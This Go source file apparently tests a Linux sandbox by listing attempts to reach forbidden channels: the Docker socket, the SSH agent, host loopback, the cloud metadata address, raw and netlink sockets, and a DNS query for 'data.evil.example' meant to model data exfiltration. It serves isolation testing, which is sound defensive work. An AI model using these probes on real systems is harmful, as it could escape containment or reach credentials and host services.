//go:build linux

package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

// Targets: admin, docker, agent and near are the paths of sockets that say the mark to who
// connects (admin in the hidden folder, near in a folder that may be read); abstract is the
// name of one without a path, datagram the path of one without connections; tcp4, tcp6, udp
// and dns are addresses of the host that answer with the mark.
var sockets = map[string]attempt{
	"connect-to-the-admin-socket":     func(t targets) error { return hears("unix", t["admin"], t) },
	"connect-to-dockers-socket":       func(t targets) error { return hears("unix", t["docker"], t) },
	"connect-to-the-ssh-agent":        sshAgent,
	"connect-to-a-socket-in-a-folder": func(t targets) error { return hears("unix", t["near"], t) },
	"connect-to-an-abstract-socket":   func(t targets) error { return hears("unix", "@"+t["abstract"], t) },
	"send-to-a-datagram-socket": func(t targets) error {
		fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_DGRAM, 0)
		if err != nil {
			return err
		}
		return unix.Sendto(fd, []byte("hello"), 0, &unix.SockaddrUnix{Name: t["datagram"]})
	},
	"send-from-a-pair-to-a-datagram-socket": func(t targets) error {
		pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_DGRAM, 0)
		if err != nil {
			return err
		}
		return unix.Sendto(pair[0], []byte("hello"), 0, &unix.SockaddrUnix{Name: t["datagram"]})
	},
	"reconnect-a-pair": func(t targets) error {
		pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_DGRAM, 0)
		if err != nil {
			return err
		}
		return unix.Connect(pair[0], &unix.SockaddrUnix{Name: t["datagram"]})
	},
	"connect-to-the-hosts-loopback":      func(t targets) error { return hears("tcp", t["tcp4"], t) },
	"connect-to-the-hosts-ipv6-loopback": func(t targets) error { return hears("tcp", t["tcp6"], t) },
	"send-udp":                           func(t targets) error { return hears("udp", t["udp"], t) },
	"ask-dns":                            askDNS,
	"connect-to-the-metadata-address": func(t targets) error {
		conn, err := net.DialTimeout("tcp", "169.254.169.254:80", 2*time.Second)
		if err != nil {
			return err
		}
		return conn.Close()
	},
	"listen-on-every-address": func(t targets) error {
		l, err := net.Listen("tcp", "0.0.0.0:0")
		if err != nil {
			return err
		}
		// A listener is of use when somebody can come: the test's network has more than lo.
		defer l.Close()
		others, err := net.Interfaces()
		if err == nil && len(others) < 2 {
			err = errors.New("only the loopback of its own")
		}
		return err
	},
	"open-a-raw-socket":       socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP),
	"open-a-raw-ipv6-socket":  socket(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6),
	"open-a-packet-socket":    socket(unix.AF_PACKET, unix.SOCK_RAW, 0),
	"open-a-netlink-socket":   socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_ROUTE),
	"open-an-audit-socket":    socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_AUDIT),
	"open-a-netfilter-socket": socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_NETFILTER),
	"open-a-vsock":            socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0),
	"open-a-crypto-socket":    socket(unix.AF_ALG, unix.SOCK_SEQPACKET, 0),
	"open-a-ping-socket":      socket(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP),
	"open-a-multipath-socket": socket(unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_MPTCP),
}

func socket(family, kind, protocol int) attempt {
	return func(targets) error {
		fd, err := unix.Socket(family, kind, protocol)
		if err != nil {
			return err
		}
		return unix.Close(fd)
	}
}

// hears connects, says something and waits for the mark.
func hears(network, address string, t targets) error {
	conn, err := net.DialTimeout(network, address, 5*time.Second)
	if err != nil {
		return err
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := conn.Write([]byte("hello")); err != nil {
		return err
	}
	buffer := make([]byte, 512)
	n, err := conn.Read(buffer)
	if err != nil {
		return err
	}
	return marked(string(buffer[:n]), t)
}

func sshAgent(t targets) error {
	return anyOf(
		func() error { return hears("unix", t["agent"], t) },
		func() error { return hears("unix", os.Getenv("SSH_AUTH_SOCK"), t) })
}

// askDNS sends a question for a name that carries data, as a server would that wants to get
// data out through whoever resolves for it.
func askDNS(t targets) error {
	asked := errors.New("the name server was not reached")
	resolver := net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
		conn, err := (&net.Dialer{}).DialContext(ctx, "udp", t["dns"])
		if err == nil {
			asked = nil
		}
		return conn, err
	}}
	ctx, cancel := context.WithTimeout(context.Background(), time.Second)
	defer cancel()
	_, err := resolver.LookupHost(ctx, "data.evil.example")
	if asked != nil {
		return fmt.Errorf("%w: %w", asked, err)
	}
	return hears("udp", t["dns"], t)
}

// descriptors opens as many files as there are asked for.
func descriptors(t targets) error {
	_ = unix.Setrlimit(unix.RLIMIT_NOFILE, &unix.Rlimit{Cur: 1 << 16, Max: 1 << 16})
	want, err := strconv.Atoi(t["descriptors"])
	if err != nil {
		return err
	}
	for i := range want {
		if _, err := unix.Open("/dev/null", unix.O_RDONLY, 0); err != nil {
			return fmt.Errorf("after %d: %w", i, err)
		}
	}
	return nil
}
